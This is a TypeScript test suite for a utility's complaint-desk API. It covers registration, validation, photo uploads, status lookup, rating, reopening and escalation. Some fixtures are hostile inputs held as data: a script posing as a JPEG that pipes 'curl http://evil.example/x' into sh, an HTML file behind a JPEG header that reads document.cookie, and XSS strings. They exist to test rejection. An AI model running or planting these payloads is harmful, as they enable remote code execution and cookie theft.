import fs from 'node:fs'
import path from 'node:path'
import request from 'supertest'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import en from '../../shared/locales/en/forms.json'
import { COMPLAINT_HOURS, OFFICER_LEVELS } from '../../shared/workflow/rules'
import { createTestApp, type TestApp } from '../helpers/app'
import { TEST_DB } from '../helpers/db'
import { JPEG, PDF, PNG, uploadPowPool } from '../helpers/uploads'
import { SAME_ORIGIN as SAME } from '../helpers/forms'

const WORDS = en.problems as Record<string, string>
const HOUR = 3_600_000
const DAY = 24 * HOUR
const OFFICER = { type: 'officer' as const, id: 'AE-101' }

type Files = Record<string, { body: Buffer; name: string; type?: string }>

/** A script named .jpg, and an HTML page that starts with a JPEG's magic number. */
const SCRIPT_AS_JPG = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n')
const HTML_WITH_JPEG_MAGIC = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('<html><body><script>alert(document.cookie)</script></body></html>')])
/** 2 MB and one byte, a JPEG from start to end. */
const OVERSIZE_JPEG = Buffer.concat([JPEG.subarray(0, 20), Buffer.alloc(2 * 1024 * 1024 + 1 - 22, 0x20), Buffer.from([0xff, 0xd9])])

/**
 * The in-house complaint desk's JSON API (issue 10 §4) on both databases: registering with and
 * without a photo, every refusal of the form and of the photo, the ticket by SMS, the status
 * lookup (someone else's number with a wrong mobile is the same 404 as an unknown one), the
 * deadline by category and its escalation, and the rating and reopening rules with a moved clock.
 */
describe(`complaints API (${TEST_DB})`, () => {
  let t: TestApp
  let clock = Date.parse('2026-12-10T04:30:00.000Z')
  let mobileSeq = 9812300000
  const newMobile = () => String(++mobileSeq)

  const fields = (over: Record<string, string> = {}): Record<string, string> => ({
    category: 'no_supply',
    subcategory: 'whole_area',
    description: 'No power in our lane since 6 am, the transformer hums.',
    district: 'kamrup-metro',
    locality: 'Zoo Road, Guwahati',
    landmark: 'Near the post office',
    name: 'Ram Das',
    mobile: newMobile(),
    ...over,
  })

  let pow: ReturnType<typeof uploadPowPool>

  beforeAll(async () => {
    t = await createTestApp({ seed: true, now: () => clock, env: { AUTH_IP_LIMIT: '100000', COMPLAINTS_URL: '/RegisterComplaint' } })
    // a multipart call needs a solved proof of work each (issue 27 §6)
    pow = uploadPowPool(t)
    await pow.fill(60)
  })
  afterAll(async () => t.close())
  beforeEach(() => {
    clock = Date.parse('2026-12-10T04:30:00.000Z')
  })

  const register = (body: Record<string, string> = fields(), files: Files = {}) => {
    const req = request(t.app).post('/api/complaints').set(SAME).set(pow.next())
    for (const [k, v] of Object.entries(body)) req.field(k, v)
    for (const [k, f] of Object.entries(files)) req.attach(k, f.body, { filename: f.name, contentType: f.type ?? 'image/jpeg' })
    return req
  }
  const count = async (table: string) => Number((await t.testDb.db(table).count({ n: '*' }))[0].n)
  const storedFiles = () => {
    const dir = path.join(t.config.uploadsPath, 'private')
    return fs.existsSync(dir) ? fs.readdirSync(dir, { recursive: true }).filter((f) => String(f).includes('.')).length : 0
  }
  const outbox = async (mobile: string) => (await t.testDb.db('sms_outbox').where({ mobile }).orderBy('id').select('text')).map((r: { text: string }) => r.text)
  const problemsOf = (body: { errors?: Array<{ path: string; problem: string }> }) => Object.fromEntries((body.errors ?? []).map((e) => [e.path, e.problem]))
  /** A complaint as it was registered, with its ticket number and mobile. */
  const newComplaint = async (over: Record<string, string> = {}) => {
    const body = fields(over)
    const res = await register(body).expect(201)
    return { no: res.body.complaint.workNo as string, mobile: body.mobile, complaint: res.body.complaint }
  }
  const rate = (no: string, body: object) => request(t.app).post(`/api/complaints/${no}/rating`).set(SAME).send(body)
  const reopen = (no: string, body: object) => request(t.app).post(`/api/complaints/${no}/reopen`).set(SAME).send(body)

  it('tells the pages where the complaint links go (COMPLAINTS_URL, through the SiteInfo)', () => {
    expect(t.services.site.complaintsUrl).toBe('/RegisterComplaint')
  })

  it('registers a complaint with a photo: 201, a CM ticket, registered with the category deadline, the ticket by SMS', async () => {
    const body = fields()
    const files = storedFiles()
    const res = await register(body, { photo: { body: JPEG, name: 'lane.jpg' } }).expect(201)
    expect(res.headers['cache-control']).toBe('no-store')
    const c = res.body.complaint
    expect(c.workNo).toMatch(/^CM\d{10}$/)
    expect(c).toMatchObject({
      kind: 'complaint',
      state: 'registered',
      category: 'no_supply',
      subcategory: 'whole_area',
      urgent: false,
      applicantName: 'Ram Das',
      consumerNo: null,
      district: 'kamrup-metro',
      level: 'section',
      overdue: false,
      pending: { from: 'officer', level: 'section' },
    })
    expect(c.data).toMatchObject({ description: body.description, locality: 'Zoo Road, Guwahati', landmark: 'Near the post office' })
    expect(Date.parse(c.deadlineAt)).toBe(clock + COMPLAINT_HOURS.no_supply * HOUR)
    expect(c.files.map((f: { slot: string; contentType: string }) => [f.slot, f.contentType])).toEqual([['photo', 'image/jpeg']])
    expect(storedFiles()).toBe(files + 1)
    expect(c.events).toEqual([expect.objectContaining({ state: 'registered', action: 'created', actorType: 'consumer' })])
    const sms = await outbox(body.mobile)
    expect(sms).toHaveLength(1)
    expect(sms[0]).toContain(c.workNo)
    expect(sms[0]).toContain('1912')
    // the browser that registered it opens it
    const cookie = res.headers['set-cookie'] as unknown as string[]
    expect(cookie.join(';')).toMatch(/apdcl\.work=.*HttpOnly/i)
    await request(t.app).get(`/api/applications/${c.workNo}`).set('Cookie', cookie).expect(200)
    await request(t.app).get(`/api/applications/${c.workNo}`).expect(404)
    // its acknowledgement as a PDF, in both languages, for that browser only
    for (const lang of ['en', 'as']) {
      const pdf = await request(t.app).get(`/api/applications/${c.workNo}/ack.pdf?lang=${lang}`).set('Cookie', cookie).buffer(true).expect(200)
      expect(pdf.headers['content-type']).toBe('application/pdf')
      expect((pdf.body as Buffer).subarray(0, 5).toString()).toBe('%PDF-')
    }
    await request(t.app).get(`/api/applications/${c.workNo}/ack.pdf?lang=en`).expect(404)
  })

  it('marks a danger complaint urgent with its 4-hour deadline; takes JSON without a photo and a known consumer number', async () => {
    const body = fields({ category: 'danger', subcategory: 'fallen_wire', consNo: '1010 0000 0001' })
    const res = await request(t.app).post('/api/complaints?lang=as').set(SAME).send(body).expect(201)
    expect(res.body.complaint).toMatchObject({ category: 'danger', subcategory: 'fallen_wire', urgent: true, consumerNo: '101000000001', locale: 'as', files: [] })
    expect(Date.parse(res.body.complaint.deadlineAt)).toBe(clock + 4 * HOUR)
    // the officers' queue puts it first
    const queue = await t.services.workflow.queue({ kind: 'complaint' })
    expect(queue.items[0].workNo).toBe(res.body.complaint.workNo)
    // a PNG photo is a photo too
    const png = await register(fields({ category: 'meter', subcategory: 'meter_burnt' }), { photo: { body: PNG, name: 'meter.png', type: 'image/png' } }).expect(201)
    expect(png.body.complaint.files[0].contentType).toBe('image/png')
  })

  it('refuses each wrong field with 400 INVALID, its problem key and words, and stores nothing', async () => {
    const before = await count('work_items')
    const files = storedFiles()
    const empty = await request(t.app).post('/api/complaints').set(SAME).send({}).expect(400)
    expect(empty.body).toMatchObject({ status: 'error', code: 'INVALID' })
    expect(problemsOf(empty.body)).toEqual({
      category: 'categoryEmpty',
      subcategory: 'subcategoryEmpty',
      description: 'descriptionEmpty',
      district: 'districtEmpty',
      locality: 'localityEmpty',
      name: 'nameEmpty',
      mobile: 'mobileEmpty',
    })
    expect(empty.body.message).toBe(WORDS.categoryEmpty)

    const cases: Array<[Record<string, string>, string, string]> = [
      [{ category: 'weather' }, 'category', 'categoryEmpty'],
      [{ subcategory: 'nonsense' }, 'subcategory', 'subcategoryEmpty'],
      [{ category: 'bill', subcategory: 'fallen_wire' }, 'subcategory', 'subcategoryMismatch'],
      [{ description: 'No power' }, 'description', 'descriptionShort'],
      [{ description: 'x'.repeat(1001) }, 'description', 'tooLong'],
      [{ description: 'Lights <script>alert(1)</script> off' }, 'description', 'noMarkup'],
      [{ district: 'gotham' }, 'district', 'districtEmpty'],
      [{ locality: 'Z' }, 'locality', 'localityInvalid'],
      [{ landmark: 'y'.repeat(101) }, 'landmark', 'tooLong'],
      [{ name: '1234' }, 'name', 'nameInvalid'],
      [{ mobile: '12345' }, 'mobile', 'mobileInvalid'],
      [{ consNo: '12345' }, 'consNo', 'consNoLength'],
      [{ consNo: '10100000000A' }, 'consNo', 'numbersOnly'],
      [{ consNo: '999000000001' }, 'consNo', 'consNoDivision'],
      [{ consNo: '101999999999' }, 'consNo', 'consumerNotFound'],
    ]
    for (const [over, field, problem] of cases) {
      const res = await register(fields(over)).expect(400)
      expect(problemsOf(res.body), JSON.stringify(over)).toEqual({ [field]: problem })
      expect(res.body.errors[0].message).toBe(WORDS[problem])
    }
    expect(await count('work_items')).toBe(before)
    expect(storedFiles()).toBe(files)
  })

  it('refuses a photo that is not a plain JPEG or PNG, by its bytes, and stores nothing', async () => {
    const before = await count('work_items')
    const files = storedFiles()
    const cases: Array<[Files[string], string]> = [
      [{ body: SCRIPT_AS_JPG, name: 'photo.jpg' }, 'fileType'],
      [{ body: HTML_WITH_JPEG_MAGIC, name: 'photo.jpg' }, 'fileUnsafe'],
      [{ body: Buffer.concat([JPEG, Buffer.from('<script>alert(1)</script>')]), name: 'photo.jpg' }, 'fileUnsafe'],
      [{ body: PDF, name: 'photo.jpg', type: 'application/pdf' }, 'photoType'],
      [{ body: OVERSIZE_JPEG, name: 'big.jpg' }, 'fileTooLarge'],
    ]
    for (const [file, problem] of cases) {
      const res = await register(fields(), { photo: file }).expect(400)
      expect(problemsOf(res.body), file.name + ' ' + problem).toEqual({ photo: problem })
    }
    // a second photo, or a file in another slot: too many files
    const two = request(t.app).post('/api/complaints').set(SAME).set(pow.next())
    for (const [k, v] of Object.entries(fields())) two.field(k, v)
    two.attach('photo', JPEG, { filename: 'a.jpg', contentType: 'image/jpeg' }).attach('photo', JPEG, { filename: 'b.jpg', contentType: 'image/jpeg' })
    expect(problemsOf((await two.expect(400)).body)).toEqual({ photo: 'tooManyFiles' })
    const other = await register(fields(), { identity: { body: JPEG, name: 'a.jpg' } }).expect(400)
    expect(problemsOf(other.body)).toEqual({ photo: 'tooManyFiles' })
    // the form's other fields are still checked with a refused photo
    const both = await register(fields({ mobile: '' }), { photo: { body: SCRIPT_AS_JPG, name: 'x.jpg' } }).expect(400)
    expect(problemsOf(both.body)).toEqual({ mobile: 'mobileEmpty', photo: 'fileType' })
    expect(await count('work_items')).toBe(before)
    expect(storedFiles()).toBe(files)
  })

  it('shows the status to the number with its mobile only: a wrong mobile is the same 404 as an unknown number', async () => {
    const { no, mobile } = await newComplaint()
    const other = await newComplaint()
    const ok = await request(t.app).post('/api/applications/status').set(SAME).send({ applNo: no.toLowerCase(), mobile }).expect(200)
    expect(ok.body.application).toMatchObject({ workNo: no, kind: 'complaint', state: 'registered' })
    const wrongMobile = await request(t.app).post('/api/applications/status').set(SAME).send({ applNo: no, mobile: other.mobile }).expect(404)
    const unknown = await request(t.app).post('/api/applications/status').set(SAME).send({ applNo: 'CM0000000000', mobile }).expect(404)
    const same = ({ requestId: _, ...body }: Record<string, unknown>) => body
    expect(same(wrongMobile.body)).toEqual(same(unknown.body))
    // the same for a rating and a reopening: someone else's ticket, an unknown one, a malformed one
    const a = await rate(no, { mobile: other.mobile, rating: 5 }).expect(404)
    const b = await rate('CM0000000000', { mobile, rating: 5 }).expect(404)
    const c = await rate('AP0000000000', { mobile, rating: 5 }).expect(404)
    const d = await reopen('not-a-ticket', { mobile, reason: 'Still no power in the lane.' }).expect(404)
    expect(same(a.body)).toEqual(same(b.body))
    expect(same(b.body)).toEqual(same(c.body))
    expect(same(c.body)).toEqual(same(d.body))
    expect(a.body).toMatchObject({ status: 'error', code: 'NOT_FOUND' })
  })

  it('refuses to rate or reopen a complaint that is not resolved, and bad input with 400', async () => {
    const { no, mobile } = await newComplaint()
    expect(problemsOf((await rate(no, { mobile, rating: 4 }).expect(400)).body)).toEqual({ rating: 'complaintNotResolved' })
    expect(problemsOf((await reopen(no, { mobile, reason: 'Still no power in the lane.' }).expect(400)).body)).toEqual({ reason: 'complaintNotResolved' })
    await t.services.workflow.transition(no, 'resolved', OFFICER, 'Fuse replaced')
    for (const rating of [0, 6, 2.5, 'five', '', null]) {
      expect(problemsOf((await rate(no, { mobile, rating }).expect(400)).body), String(rating)).toEqual({ rating: 'ratingEmpty' })
    }
    expect(problemsOf((await rate(no, { mobile: '123', rating: 3 }).expect(400)).body)).toEqual({ mobile: 'mobileInvalid' })
    expect(problemsOf((await rate(no, { mobile, rating: 3, comment: 'c'.repeat(501) }).expect(400)).body)).toEqual({ comment: 'tooLong' })
    expect(problemsOf((await reopen(no, { mobile, reason: 'no' }).expect(400)).body)).toEqual({ reason: 'reasonShort' })
    expect(problemsOf((await reopen(no, { mobile }).expect(400)).body)).toEqual({ reason: 'reasonEmpty' })
    // nothing changed
    expect((await t.services.workflow.byNo(no))?.state).toBe('resolved')
  })

  it('reopens a resolved complaint within 7 days (a fresh deadline), then a rating closes it for good', async () => {
    const { no, mobile } = await newComplaint({ category: 'voltage', subcategory: 'low_voltage' })
    clock += 2 * HOUR
    await t.services.workflow.transition(no, 'resolved', OFFICER, 'Tap changed')
    clock += 7 * DAY // exactly 7 days after the resolution: still in time
    const reopened = await reopen(no, { mobile, reason: 'The voltage is low again every evening.' }).expect(200)
    expect(reopened.headers['cache-control']).toBe('no-store')
    expect(reopened.body.complaint).toMatchObject({ state: 'reopened', reopenCount: 1, resolvedAt: null })
    expect(Date.parse(reopened.body.complaint.deadlineAt)).toBe(clock + COMPLAINT_HOURS.voltage * HOUR)
    expect(reopened.body.complaint.events.at(-1)).toMatchObject({ state: 'reopened', action: 'reopened', actorType: 'consumer', note: 'The voltage is low again every evening.' })
    expect((await outbox(mobile)).at(-1)).toContain('reopened')

    await t.services.workflow.transition(no, 'resolved', OFFICER, 'Line rebalanced')
    const rated = await rate(no, { mobile, rating: '5', comment: 'Quick work, thank you' }).expect(200)
    expect(rated.body.complaint).toMatchObject({ state: 'closed', rating: 5, deadlineAt: null, pending: { from: null } })
    expect(rated.body.complaint.events.at(-1)).toMatchObject({ state: 'closed', action: 'rated', note: 'Quick work, thank you' })
    // closed: neither a second rating nor a reopening
    expect(problemsOf((await rate(no, { mobile, rating: 1 }).expect(400)).body)).toEqual({ rating: 'complaintClosed' })
    expect(problemsOf((await reopen(no, { mobile, reason: 'It is back again today.' }).expect(400)).body)).toEqual({ reason: 'complaintClosed' })
  })

  it('refuses to reopen more than 7 days after the resolution; the rating is still taken', async () => {
    const { no, mobile } = await newComplaint({ category: 'bill', subcategory: 'wrong_reading' })
    await t.services.workflow.transition(no, 'resolved', OFFICER, 'Bill revised')
    clock += 7 * DAY + 1
    expect(problemsOf((await reopen(no, { mobile, reason: 'The revised bill is wrong too.' }).expect(400)).body)).toEqual({ reason: 'reopenTooLate' })
    expect((await t.services.workflow.byNo(no))?.state).toBe('resolved')
    const rated = await rate(no, { mobile, rating: 2 }).expect(200)
    expect(rated.body.complaint).toMatchObject({ state: 'closed', rating: 2 })
  })

  it('escalates a complaint past its category deadline to the next officer, with the SMS', async () => {
    const { no, mobile } = await newComplaint({ category: 'danger', subcategory: 'sparking' })
    clock += 4 * HOUR - 1
    await t.services.workflow.escalateOverdue()
    expect((await t.services.workflow.byNo(no))?.level).toBe('section')
    clock += 2
    await t.services.workflow.escalateOverdue()
    const item = await t.services.workflow.byNo(no)
    expect(item).toMatchObject({ level: OFFICER_LEVELS[1], overdue: true })
    expect(item?.events.at(-1)).toMatchObject({ action: 'escalated', note: 'subdivision', actorType: 'system' })
    expect((await outbox(mobile)).at(-1)).toContain('sub-division')
  })
})
